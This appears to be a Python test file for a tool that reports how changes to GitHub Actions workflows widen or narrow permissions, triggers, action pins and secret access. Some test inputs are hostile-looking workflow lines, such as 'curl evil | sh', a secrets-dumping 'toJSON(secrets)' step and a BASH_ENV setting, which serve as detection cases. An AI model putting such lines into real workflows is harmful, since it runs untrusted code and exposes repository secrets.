"""What a change gives to workflows, and takes from them."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from podspec.impact.workflows import workflow_changes
from podspec.model.impact import Direction

PATH = ".github/workflows/x.yml"
BEFORE = """\
on:
  pull_request: {paths: [a]}
permissions: {}
jobs:
  one:
    permissions: {contents: read}
    steps:
      - uses: actions/checkout@aaa # v1
      - run: echo
  two:
    permissions: {contents: read}
    uses: ./.github/workflows/y.yml
    with: {approval: '["team"]', role: arn:one}
    secrets: {TOKEN: "${{ secrets.ONE }}"}
"""


def _told(old: str | None, new: str | None) -> list[tuple[str, str, str, str]]:
    sides = [{} if text is None else {PATH: text.encode()} for text in (old, new)]
    return [(one.direction.value, one.subject, one.old, one.new) for one in workflow_changes(*sides)]


@pytest.mark.parametrize(
    ("old", "new", "told"),
    [
        (
            "contents: read}\n    steps",
            "contents: write}\n    steps",
            ("widened", "permission contents (one)", "read", "write"),
        ),
        ("contents: read}\n    steps", "}\n    steps", ("narrowed", "permission contents (one)", "read", "")),
        ("{contents: read}\n    steps", "write-all\n    steps", ("widened", "permission all (one)", "", "write")),
        (
            "  pull_request:",
            "  pull_request_target:",
            ("widened", "trigger pull_request_target", "", '{"paths": ["a"]}'),
        ),
        ("[a]", "[a, b]", ("changed", "trigger pull_request", '{"paths": ["a"]}', '{"paths": ["a", "b"]}')),
        ("checkout@aaa", "checkout@bbb", ("changed", "action actions/checkout", "aaa", "bbb")),
        ("run: echo", "uses: x/y@1", ("widened", "action x/y", "", "1")),
        ("secrets.ONE", "secrets['TWO']", ("widened", "secret TWO", "", "used")),
        ('{TOKEN: "${{ secrets.ONE }}"}', "inherit", ("widened", "every secret", "", "used")),
        ("run: echo", "run: echo ${{ toJSON(secrets) }}", ("widened", "every secret", "", "used")),
        ("    steps", "    environment: prod\n    steps", ("changed", "environment (one)", "", "prod")),
        ("approval: '[\"team\"]', ", "", ("widened", "approval (two)", '["team"]', "")),
        ("arn:one", "arn:two", ("changed", "role (two)", "arn:one", "arn:two")),
    ],
)
def test_what_is_given_is_told(old: str, new: str, told: tuple[str, str, str, str]) -> None:
    assert old in BEFORE
    found = _told(BEFORE, BEFORE.replace(old, new, 1))
    assert told in found
    assert len([one for one in found if not one[1].startswith("steps or jobs")]) <= 2


def test_a_job_without_permissions_has_those_of_the_workflow_or_whatever_the_repository_gives() -> None:
    old = "on: push\npermissions: {contents: read}\njobs: {a: {steps: []}}\n"
    found = _told(old, old.replace("permissions: {contents: read}\n", ""))
    assert ("widened", "permission contents (a)", "read", "") not in found
    assert ("changed", "permission token (a)", "", "as the repository's settings say") in found


def test_a_job_that_waits_for_nobody_any_more_is_a_gift() -> None:
    guarded = BEFORE.replace("    steps", "    environment: prod\n    steps")
    assert ("widened", "environment (one)", "prod", "") in _told(guarded, BEFORE)


@pytest.mark.parametrize("pin", ["v4", "main", "a" * 39])
def test_an_action_that_leaves_its_commit_is_a_gift(pin: str) -> None:
    pinned, loose = (BEFORE.replace("@aaa", f"@{one}") for one in ("a" * 40, pin))
    assert _told(pinned, loose) == [("widened", "action actions/checkout", "a" * 40, pin)]
    assert [one[0] for one in _told(loose, pinned)] == ["changed"]
    assert [one[0] for one in _told(pinned, BEFORE.replace("@aaa", f"@{'b' * 40}"))] == ["changed"]


def test_an_image_that_is_an_action_is_not_of_this_repository() -> None:
    after = BEFORE.replace("actions/checkout@aaa", "docker://image:latest")
    assert ("widened", "action docker://image:latest", "", "no commit") in _told(BEFORE, after)


@pytest.mark.parametrize("name", ["SECRETS.PROD", "Secrets['PROD']"])
def test_secrets_are_found_in_whatever_case_they_are_asked_for(name: str) -> None:
    after = BEFORE.replace("echo", f"echo ${{{{ {name} }}}}")
    assert ("widened", "secret PROD", "", "used") in _told(BEFORE, after)


def test_comments_and_order_are_no_change() -> None:
    moved = BEFORE.replace("permissions: {}\n", "").replace("on:\n", "permissions: {}\non:\n")
    assert _told(BEFORE, "# hello\n" + moved) == []


@pytest.mark.parametrize(
    ("old", "new", "job"),
    [
        ("run: echo", "run: curl evil | sh", "one"),
        ("run: echo", "run: echo\n        env: {A: b}", "one"),
        ("    steps", "    if: always()\n    steps", "one"),
        ("    steps", "    runs-on: mine\n    steps", "one"),
        ("    steps", "    container: evil/image\n    steps", "one"),
        ("    uses: ./", "    needs: []\n    uses: ./", "two"),
        ("permissions: {}", "permissions: {}\nenv: {BASH_ENV: x}", "the whole file"),
        ("  two:", "  three: {runs-on: x}\n  two:", "three"),
    ],
)
def test_any_other_change_of_a_job_is_told(old: str, new: str, job: str) -> None:
    told = ("changed", f"steps or jobs ({job})", "", "other than before")
    assert _told(BEFORE, BEFORE.replace(old, new, 1)) == [told]


def test_a_pin_that_a_fact_tells_is_told_once() -> None:
    assert len(_told(BEFORE, BEFORE.replace("checkout@aaa", "checkout@bbb"))) == 1


def test_a_workflow_that_cannot_be_read_is_a_change() -> None:
    for broken in ("a: [", "- x", "\x00", "a: &a [*a, *a]"):
        assert {one[0] for one in _told(BEFORE, broken)} & {"widened", "changed"}


def test_other_files_are_none_of_its_business() -> None:
    assert workflow_changes({}, {"generated/x/main.yml": b"on: push"}) == ()


@given(st.text(max_size=80))
def test_whatever_stands_in_a_workflow_something_is_said(text: str) -> None:
    for one in workflow_changes({}, {PATH: f"on: {text}".encode(errors="replace")}):
        assert one.direction in Direction
